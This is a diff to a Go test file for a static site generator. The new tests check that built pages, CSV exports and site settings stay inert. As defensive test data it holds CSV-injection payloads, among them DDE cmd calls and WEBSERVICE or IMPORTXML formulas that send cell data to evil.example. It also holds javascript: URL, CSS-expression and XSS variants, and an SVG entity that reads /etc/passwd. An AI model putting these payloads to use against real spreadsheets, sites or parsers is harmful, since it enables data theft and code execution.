@@ -2,17 +2,24 @@ package generator_test
 
 import (
 	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
 	"errors"
+	"maps"
 	"os"
 	"path/filepath"
 	"regexp"
 	"runtime"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
 	"golang.org/x/net/html"
 
 	"github.com/trellis-ssg/trellis/generator"
+	"github.com/trellis-ssg/trellis/generator/render"
 )
 
 // TestHostileContentNeverExecutes builds testdata/hostile, whose every
@@ -65,6 +72,10 @@ func TestHostileContentNeverExecutes(t *testing.T) {
 
 var dangerousURL = regexp.MustCompile(`(?i)^\s*(javascript|data|vbscript):`)
 
+// rasterData is a picture embedded in an SVG <image> (a logo may carry
+// one): pixels, which cannot run.
+var rasterData = regexp.MustCompile(`(?i)^data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*$`)
+
 // checkInert fails the test for anything in page that would run code.
 func checkInert(t *testing.T, name string, page []byte) {
 	t.Helper()
@@ -89,8 +100,14 @@ func checkInert(t *testing.T, name string, page []byte) {
 				if n.Data == "meta" && attrOf(n, "http-equiv") == "refresh" && !strings.Contains(attrOf(n, "content"), "javascript") {
 					break
 				}
+				if n.Data == "meta" && attrOf(n, "http-equiv") == "Content-Security-Policy" && attrOf(n, "content") == render.MetaContentSecurityPolicy {
+					break // the theme's own policy
+				}
 				if n.Data == "form" && attrOf(n, "id") == "search" && attrOf(n, "action") == "/search/" {
 					break // the theme's own search form
+				}
+				if n.Data == "base" && len(n.Attr) == 1 && attrOf(n, "target") == "_blank" {
+					break // an embed page's: its links open in a new tab, outside the frame
 				}
 				t.Errorf("%s: a <%s> element from content", name, n.Data)
 			}
@@ -102,7 +119,8 @@ func checkInert(t *testing.T, name string, page []byte) {
 				if key == "style" || key == "srcdoc" || key == "formaction" {
 					t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
 				}
-				if (key == "href" || key == "src" || key == "action" || key == "xlink:href" || key == "poster" || key == "data") && dangerousURL.MatchString(a.Val) {
+				if (key == "href" || key == "src" || key == "action" || key == "xlink:href" || key == "poster" || key == "data") && dangerousURL.MatchString(a.Val) &&
+					!(n.Data == "image" && rasterData.MatchString(a.Val)) {
 					t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
 				}
 			}
@@ -240,4 +258,182 @@ func containsCode(codes []string, code string) bool {
 		}
 	}
 	return false
+}
+
+// formulaPayloads are the spreadsheet formula payloads of the hostile
+// corpus (OWASP's "CSV Injection"): every text field of a page of every
+// kind in testdata/hostile carries one.
+var formulaPayloads = []string{
+	`=HYPERLINK("http://evil.example","Click")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
+	`=1+1;=2+2`, "\t=1+1 tab", "\r=1+1 carriage return", `=cmd|' /C notepad'!'A1'`, `@formula-system`, `-1+1`,
+	`=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`, `+IMPORTXML(A1)`, `=DDE("cmd";"/C calc";"!A0")`,
+	`@SUM(A1:A9)`, `-1+2`, `+2-1`, `'=already quoted`, `=WEBSERVICE("http://evil.example/"&A1)`, `+stage()`, `=place()`,
+	`@place`, `-question()`, `=tag()`, `=risk()`, `=pool()`, `@learning()`, `-learning()`, `=evidence()`, `=decision()`,
+	`+decision()`, `@context()`, `-rationale()`, `=story()`, `+story()`, `@teller()`, `-role()`, `=quote()`, `+place()`,
+	`=theme()`, `@note()`, `-moderation()`, `=transcript()`, `+caption()`, `+source()`, `=source()`, `=video()`,
+	`@transcript()`, `=page()`, `@page()`, `+page()`,
+}
+
+// TestHostileCSVIsSpreadsheetSafe parses every CSV file of the hostile
+// build with encoding/csv: no cell may begin as a formula (=, +, -, @, tab,
+// CR) unless it is a plain number, and every payload must come back exactly
+// by the rule the CSV metadata documents; portfolio.json keeps it as it is.
+func TestHostileCSVIsSpreadsheetSafe(t *testing.T) {
+	src := "testdata/hostile"
+	var corpus []byte
+	filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
+		if err == nil && !d.IsDir() {
+			b, _ := os.ReadFile(p)
+			corpus = append(corpus, b...)
+		}
+		return nil
+	})
+	for _, p := range formulaPayloads {
+		quoted := strings.NewReplacer(`"`, `\"`, "\t", `\t`, "\r", `\r`).Replace(p)
+		if !bytes.Contains(corpus, []byte(p)) && !bytes.Contains(corpus, []byte(quoted)) {
+			t.Errorf("payload %q is not in the hostile corpus", p)
+		}
+	}
+	dest := filepath.Join(t.TempDir(), "public")
+	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
+	if err != nil {
+		t.Fatalf("build: %v\n%v", err, res.Diags)
+	}
+	formula := regexp.MustCompile(`^[=+\-@\t\r]`)
+	number := regexp.MustCompile(`^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$`)
+	undo := regexp.MustCompile(`^'+[=+\-@\t\r]`)
+	found := map[string]bool{}
+	files, _ := filepath.Glob(filepath.Join(dest, "data", "*.csv"))
+	cells := 0
+	for _, f := range files {
+		b, _ := os.ReadFile(f)
+		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", f, err)
+		}
+		for _, r := range rows {
+			for _, c := range r {
+				cells++
+				if formula.MatchString(c) && !number.MatchString(c) {
+					t.Errorf("%s: the cell %q would run as a formula", filepath.Base(f), c)
+				}
+				if undo.MatchString(c) {
+					c = c[1:]
+				}
+				found[c] = true
+				for _, item := range strings.Split(c, ";") {
+					found[item] = true
+				}
+			}
+		}
+	}
+	var doc any
+	b, _ := os.ReadFile(filepath.Join(dest, "data", "portfolio.json"))
+	if err := json.Unmarshal(b, &doc); err != nil {
+		t.Fatal(err)
+	}
+	exact := map[string]bool{}
+	var walk func(any)
+	walk = func(v any) {
+		switch v := v.(type) {
+		case string:
+			exact[v] = true
+		case []any:
+			for _, x := range v {
+				walk(x)
+			}
+		case map[string]any:
+			for _, x := range v {
+				walk(x)
+			}
+		}
+	}
+	walk(doc)
+	for _, p := range formulaPayloads {
+		if !found[p] && !found[strings.Split(p, ";")[0]] {
+			t.Errorf("payload %q does not come back from any CSV cell", p)
+		}
+		if !exact[p] {
+			t.Errorf("payload %q is not in portfolio.json as it was written", p)
+		}
+	}
+	// The IATI file carries the initiative's text as it was written.
+	iati, err := os.ReadFile(filepath.Join(dest, "data", "iati-activities.xml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var activities struct {
+		Titles []string `xml:"iati-activity>title>narrative"`
+		Descs  []string `xml:"iati-activity>description>narrative"`
+	}
+	if err := xml.Unmarshal(iati, &activities); err != nil {
+		t.Fatal(err)
+	}
+	if !slices.Contains(activities.Titles, `'=already quoted`) || !slices.Contains(activities.Descs, `=WEBSERVICE("http://evil.example/"&A1)`) {
+		t.Errorf("the IATI file does not carry the payloads exactly: %q %q", activities.Titles, activities.Descs)
+	}
+	t.Logf("%d CSV files, %d cells, %d payloads", len(files), cells, len(formulaPayloads))
+}
+
+// TestHostileBrandAndMenusRefused: brand settings and menu entries that
+// would run script are refused, each an error at its line of site.yaml,
+// and the build writes nothing: script URLs in menus whatever their case
+// or padding, stylesheets that are not only CSS, and SVG files that
+// declare entities.
+func TestHostileBrandAndMenusRefused(t *testing.T) {
+	urls := []string{"javascript:alert('m1')", "JaVaScRiPt:alert('m2')", " javascript:alert('m3')", "java\tscript:alert('m4')",
+		"data:text/html,<script>alert('m5')</script>", "vbscript:msgbox('m6')", "javascript&#58;alert('m7')", "//evil.example/alert('m8')",
+		"jav&#x0A;ascript:alert('m9')", "file:///etc/passwd"}
+	css := map[string]string{
+		"close.css":      "</style><script>alert('c1')</script>",
+		"expression.css": "a { width: expression(alert('c2')) }",
+		"binding.css":    "a { -moz-binding: url(\"https://evil.example/x.xml#alert('c3')\") }",
+		"import.css":     "@import url(\"javascript:alert('c4')\");",
+		"url.css":        "a { background: url(javascript:alert('c5')) }",
+		"behavior.css":   "a { behavior: url(alert.htc) }",
+		"data.css":       "a { background: url(\"data:text/html,<script>alert('c6')</script>\") }",
+	}
+	for i, u := range urls {
+		yaml := "title: x\nmenu:\n  footer:\n    - {title: Click, url: " + strconv.Quote(u) + "}\n"
+		refused(t, "menu url "+strconv.Itoa(i), yaml, nil, 4)
+	}
+	for name, body := range css {
+		refused(t, name, "title: x\nbrand:\n  css: ["+name+"]\n", map[string]string{name: body}, 3)
+	}
+	refused(t, "entities", "title: x\nbrand:\n  logo: logo.svg\n", map[string]string{
+		"logo.svg": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`}, 3)
+	refused(t, "html as svg", "title: x\nbrand:\n  favicon: icon.svg\n", map[string]string{
+		"icon.svg": `<html><body><script>alert('f1')</script></body></html>`}, 3)
+}
+
+// refused builds a site with the given site.yaml and files and wants an
+// error at line of site.yaml, and nothing written.
+func refused(t *testing.T, name, yaml string, files map[string]string, line int) {
+	t.Helper()
+	src := t.TempDir()
+	files = maps.Clone(files)
+	if files == nil {
+		files = map[string]string{}
+	}
+	files["site.yaml"] = yaml
+	files["content/intents/clean-air.md"] = "---\ntitle: Clean air\nsummary: Air.\n---\n"
+	for f, body := range files {
+		os.MkdirAll(filepath.Dir(filepath.Join(src, f)), 0o755)
+		os.WriteFile(filepath.Join(src, f), []byte(body), 0o644)
+	}
+	dest := filepath.Join(src, "public")
+	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
+	if !errors.Is(err, generator.ErrContent) {
+		t.Errorf("%s: build error %v, want ErrContent", name, err)
+	}
+	found := false
+	for _, d := range res.Diags {
+		found = found || d.File == "site.yaml" && d.Line == line && d.Severity.String() == "error"
+	}
+	if !found {
+		t.Errorf("%s: no error at site.yaml:%d:\n%v", name, line, res.Diags)
+	}
+	if _, err := os.Stat(dest); !os.IsNotExist(err) {
+		t.Errorf("%s: the refused build wrote %s", name, dest)
+	}
 }
